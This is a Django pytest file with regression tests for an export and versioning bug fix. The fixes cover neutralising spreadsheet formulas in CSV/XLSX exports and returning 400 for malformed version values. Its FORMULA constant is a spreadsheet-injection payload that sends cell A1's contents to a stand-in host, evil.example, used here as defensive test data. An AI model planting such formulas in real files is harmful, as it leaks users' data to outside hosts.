"""Issue 14's edit and export bugs, each pinned by a test that failed before its fix.

- the engagement CSV/XLSX export let a typed-in formula out live;
- a version that is not a number (`If-Match: "abc"`, `version=abc`) answered 500 on the report sign-off
  (API and page) and on removing a security plan item.
"""

import csv
import datetime
import io

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from reports.models import Report, ReportKind
from tests.elections_support import build_election
from tests.factories import EngagementFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_engagement_export_sends_a_typed_formula_out_inert_in_csv_and_xlsx(client, civilaffairs, mission, partner_a):
    EngagementFactory(mission=mission, partners=[partner_a], summary=FORMULA, outcomes="  +SUM(1,2)")
    client.force_login(civilaffairs)

    rows = _csv_rows(client.get(reverse("partners:engagement-export", args=["csv"])))
    summary, outcomes = rows[0].index("summary"), rows[0].index("outcomes")
    assert rows[1][summary] == "'" + FORMULA
    assert rows[1][outcomes] == "'  +SUM(1,2)"

    response = client.get(reverse("partners:engagement-export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = list(sheet.iter_rows(min_row=2, values_only=False))[0]
    assert cells[summary].value == "'" + FORMULA and cells[summary].data_type == "s"
    assert cells[outcomes].value == "'  +SUM(1,2)"


def _draft_report(mission, hom) -> Report:
    report = Report.objects.create(
        mission=mission, kind=ReportKind.PROGRESS, period_start=datetime.date(2026, 1, 1),
        period_end=datetime.date(2026, 1, 31), requested_by=hom, state=Report.State.DONE, sha256="0" * 64,
    )  # fmt: skip
    report.file.save("report.pdf", ContentFile(b"%PDF-1.7 test"), save=False)
    report.xlsx_file.save("report.xlsx", ContentFile(b"PK test"), save=False)
    report.save()
    return report


@pytest.mark.parametrize("header", ['"abc"', "abc", 'W/"1.5"', '"-1"', '"99999999999999999999"'])
def test_report_approve_with_a_garbage_if_match_is_a_400_not_a_500(mission, hom, header):
    report = _draft_report(mission, hom)
    client = APIClient()
    client.force_authenticate(hom)
    response = client.post(f"/api/v1/reports/{report.pk}/approve/", HTTP_IF_MATCH=header)
    assert response.status_code == 400
    assert "version" in response.json()["errors"]
    report.refresh_from_db()
    assert report.approval == Report.Approval.DRAFT


@pytest.mark.parametrize("value", ["abc", "1.5", "-3", "", "[]"])
def test_report_approve_with_a_garbage_version_field_is_a_400(mission, hom, value):
    report = _draft_report(mission, hom)
    client = APIClient()
    client.force_authenticate(hom)
    response = client.post(f"/api/v1/reports/{report.pk}/approve/", {"version": value}, format="json")
    assert response.status_code == (200 if value == "" else 400)  # no version at all: the current one


def test_report_approve_with_a_stale_if_match_is_a_412(mission, hom):
    report = _draft_report(mission, hom)
    client = APIClient()
    client.force_authenticate(hom)
    response = client.post(f"/api/v1/reports/{report.pk}/approve/", HTTP_IF_MATCH=f'"{report.version + 5}"')
    assert response.status_code == 412
    assert response.json()["current_version"] == report.version


def test_report_approve_page_with_a_garbage_version_is_a_400_not_a_500(client, mission, hom):
    report = _draft_report(mission, hom)
    client.force_login(hom)
    assert client.post(reverse("reports:approve", args=[report.pk]), {"version": "abc"}).status_code == 400
    report.refresh_from_db()
    assert report.approval == Report.Approval.DRAFT


def test_removing_a_plan_item_with_a_garbage_version_is_a_400_not_a_500(client, electoral, mission, district):
    e = build_election(mission, district)
    client.force_login(electoral)
    url = reverse("elections:item-delete", args=["site", e["site"].pk])
    assert client.post(url, {"version": "abc"}).status_code == 400
    assert type(e["site"]).objects.filter(pk=e["site"].pk).exists()
